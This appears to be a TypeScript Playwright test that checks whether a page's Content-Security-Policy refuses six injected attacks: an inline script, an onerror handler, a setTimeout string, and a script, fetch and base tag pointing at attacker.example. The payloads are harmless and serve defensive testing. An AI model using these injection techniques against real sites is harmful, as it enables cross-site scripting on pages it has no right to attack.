import type { Browser } from 'playwright-core';
import type { Check } from './check';
import { createRecorder } from './createRecorder';
import { openContext } from './openContext';

interface Attack {
  what: string;
  /** The directive of the policy that must refuse it. */
  directive: string;
  /** Runs in the page, as what got in by markup would. */
  run(): void;
}

const attacks: readonly Attack[] = [
  {
    what: 'an inline script',
    directive: 'script-src-elem',
    run() {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.body.append(script);
    },
  },
  {
    what: 'a handler in markup',
    directive: 'script-src-attr',
    run() {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="attacked = true">');
    },
  },
  {
    what: 'a script of another host',
    directive: 'script-src-elem',
    run() {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/script.js';
      document.body.append(script);
    },
  },
  {
    what: 'text that is evaluated',
    directive: 'script-src',
    run() {
      // By a timer: what a check evaluates at once is exempt.
      window.setTimeout('window.attacked = true');
    },
  },
  {
    what: 'a request to another host',
    directive: 'connect-src',
    run() {
      fetch('https://attacker.example/').catch(() => {});
    },
  },
  {
    what: 'a base of another host',
    directive: 'base-uri',
    run() {
      document.head.insertAdjacentHTML('afterbegin', '<base href="https://attacker.example/">');
    },
  },
];

/** What a page's policy refused, by directive. */
type Refused = Window & { refused: string[] };

function noteRefused(): void {
  const refused: string[] = [];
  Object.assign(window, { refused });
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    refused.push(effectiveDirective),
  );
}

/** Attacks a page and sees that its Content-Security-Policy holds. */
export async function checkPolicy(
  browser: Browser,
  origin: string,
  pathname: string,
): Promise<Check[]> {
  const { checks, record } = createRecorder(`${pathname}, attacked`);
  const context = await openContext(browser);
  try {
    const page = await context.newPage();
    await page.goto(origin + pathname, { waitUntil: 'domcontentloaded' });
    await page.evaluate(noteRefused);
    for (const { what, directive, run } of attacks) {
      await record(`refuses ${what}`, async () => {
        await page.evaluate(() => (window as unknown as Refused).refused.splice(0));
        await page.evaluate(run);
        await page.waitForFunction(
          (name) => (window as unknown as Refused).refused.includes(name),
          directive,
        );
        return (await page.evaluate(() => 'attacked' in window)) ? ['it ran'] : [];
      });
    }
  } catch (error) {
    await record('can be looked at', () => Promise.reject(error as Error));
  } finally {
    await context.close();
  }
  return checks;
}
